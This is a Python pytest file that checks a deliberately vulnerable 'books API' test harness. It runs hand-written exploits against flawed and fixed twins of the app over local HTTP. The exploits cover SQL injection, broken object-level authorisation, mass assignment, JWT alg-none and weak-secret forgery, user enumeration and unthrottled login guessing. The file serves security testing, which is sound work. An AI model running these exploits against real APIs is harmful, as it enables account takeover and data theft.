"""The yardstick itself is honest: each flaw of the books API is exploitable by hand on its
vulnerable twin (that flaw alone switched on) and not on the fixed twin, over real HTTP."""
from __future__ import annotations

import json

import pytest

from tests.testgen.owasp.books_app import FLAWS, LOGIN_FAILURES_ALLOWED, WEAK_SECRET, BooksApp, Jwt, _b64
from tests.testgen.owasp.traffic import call
from tests.testgen.target_app import RunningTarget


def _sqli(app, url):
    status, answer = call(url, "GET", "/users/v1/alice'", token=app.token_for("alice"))
    return status == 500 and "sqlite3" in answer["message"]


def _bola_password(app, url):
    call(url, "PUT", "/users/v1/bob/password", token=app.token_for("alice"), body={"password": "Taken-over-1"})
    return call(url, "POST", "/users/v1/login", body={"username": "bob", "password": "Taken-over-1"})[0] == 200


def _bola_email(app, url):
    call(url, "PUT", "/users/v1/2/email", token=app.token_for("alice"), body={"email": "mallory@evil.test"})
    return call(url, "GET", "/users/v1/bob", token=app.token_for("bob"))[1]["email"] == "mallory@evil.test"


def _bola_read(app, url):
    status, answer = call(url, "GET", "/books/v1/2", token=app.token_for("alice"))
    return status == 200 and answer["secret"] == "bob-secret-77"


def _mass_assignment(app, url):
    call(url, "POST", "/users/v1/register",
         body={"username": "mallory", "password": "Mallory-pw-1", "email": "m@evil.test", "admin": True})
    token = call(url, "POST", "/users/v1/login", body={"username": "mallory", "password": "Mallory-pw-1"})[1]
    return call(url, "GET", "/users/v1/alice", token=token["auth_token"])[0] == 200  # admins read anyone


def _data_exposure(app, url):
    users = call(url, "GET", "/users/v1", token=app.token_for("bob"))[1]["users"]
    return any(u.get("password") == "Alice-pw-1" for u in users)


def _enumeration(app, url):
    unknown = call(url, "POST", "/users/v1/login", body={"username": "nobody", "password": "x"})
    wrong = call(url, "POST", "/users/v1/login", body={"username": "alice", "password": "x"})
    return unknown != wrong


def _unthrottled_login(app, url):
    answers = [call(url, "POST", "/users/v1/login", body={"username": "alice", "password": f"guess{i}"})[0]
               for i in range(LOGIN_FAILURES_ALLOWED + 3)]
    return 429 not in answers


def _weak_jwt_secret(app, url):
    forged = Jwt(WEAK_SECRET, accept_none=False).issue("bob")
    return call(url, "GET", "/users/v1/bob", token=forged)[0] == 200


def _jwt_alg_none(app, url):
    claims = app.token_for("alice").split(".")[1]  # alice's own claims, unsigned
    unsigned = f"{_b64(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{claims}."
    return call(url, "GET", "/users/v1/alice", token=unsigned)[0] == 200


def _bfla_role(app, url):
    call(url, "PUT", "/users/v1/alice/role", token=app.token_for("alice"), body={"role": "admin"})
    return call(url, "GET", "/users/v1/bob", token=app.token_for("alice"))[0] == 200  # admins read anyone


def _bola_body(app, url):
    call(url, "PUT", "/account/v1/profile", token=app.token_for("alice"), body={"username": "bob", "bio": "pwned"})
    return call(url, "GET", "/users/v1/bob", token=app.token_for("bob"))[1]["bio"] == "pwned"
def _mass_assignment_role(app, url):
    call(url, "PATCH", "/account/v1/me", token=app.token_for("alice"), body={"bio": "hi", "role": "librarian"})
    return call(url, "GET", "/books/v1/2", token=app.token_for("alice"))[0] == 200  # librarians read every book


def _bola_book_write(app, url):
    call(url, "PUT", "/books/v1/3", token=app.token_for("alice"), body={"title": "Mine now", "secret": "x"})
    return app.db.execute("SELECT title FROM books WHERE id = 3").fetchone() == ("Mine now",)


def _mass_assignment_unreadable(app, url):
    assert call(url, "POST", "/newsletter/v1/subscriptions", body={"email": "m@evil.test", "premium": True})[0] == 202
    return app.db.execute("SELECT premium FROM subscriptions WHERE email = 'm@evil.test'").fetchone() == (1,)


EXPLOITS = {f.__name__[1:]: f for f in (_sqli, _bola_password, _bola_email, _bola_read, _mass_assignment,
                                       _data_exposure, _enumeration, _unthrottled_login, _weak_jwt_secret,
                                       _jwt_alg_none, _bfla_role, _bola_body, _mass_assignment_role,
                                       _mass_assignment_unreadable, _bola_book_write)}


def _exploited(flaws, name) -> bool:
    app = BooksApp(flaws)
    target = RunningTarget(app)
    try:
        return bool(EXPLOITS[name](app, target.base_url))
    finally:
        target.stop()


def test_every_flaw_has_an_exploit():
    assert sorted(EXPLOITS) == sorted(FLAWS)


@pytest.mark.parametrize("name", FLAWS)
def test_the_flaw_is_exploitable_on_its_vulnerable_twin_only(name):
    assert _exploited({name}, name), "the vulnerable twin resists its own exploit"
    assert not _exploited(set(), name), "the fixed twin falls to the exploit"


def test_a_role_the_api_does_not_know_is_a_server_error_on_the_role_twin():
    """The generic guess ``role: "admin"`` breaks the role constraint (500): only a role the API uses works."""
    app = BooksApp({"mass_assignment_role"})
    target = RunningTarget(app)
    try:
        token = app.token_for("alice")
        assert call(target.base_url, "PATCH", "/account/v1/me", token=token, body={"role": "admin"})[0] == 500
        assert call(target.base_url, "GET", "/account/v1/me", token=token)[1]["role"] == "reader"
    finally:
        target.stop()


def test_an_unknown_flaw_is_refused():
    with pytest.raises(ValueError, match="unknown flaws"):
        BooksApp({"xss"})
